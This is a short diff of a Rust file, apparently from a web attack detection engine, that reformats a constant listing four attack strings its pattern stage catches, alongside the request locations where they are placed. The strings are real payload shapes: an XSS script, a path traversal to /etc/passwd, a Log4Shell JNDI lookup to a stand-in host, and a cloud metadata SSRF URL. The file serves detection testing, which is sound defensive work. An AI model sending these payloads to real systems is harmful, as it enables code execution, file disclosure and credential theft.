@@ -9,12 +9,8 @@ use std::sync::OnceLock;
 use crate::{Engine, EngineConfig, ScoreInput};
 
 /// Attack texts the pattern stage catches on their own (no model needed).
-pub const MARKERS: [&str; 4] = [
-    "<script>alert(1)</script>",
-    "../../../../etc/passwd",
-    "${jndi:ldap://evil.example/a}",
-    "http://169.254.169.254/latest/meta-data/",
-];
+pub const MARKERS: [&str; 4] =
+    ["<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "http://169.254.169.254/latest/meta-data/"];
 
 /// Where the marker goes.
 pub const SPOTS: [&str; 8] = ["query", "path", "form", "json", "multipart", "xml", "header", "cookie"];
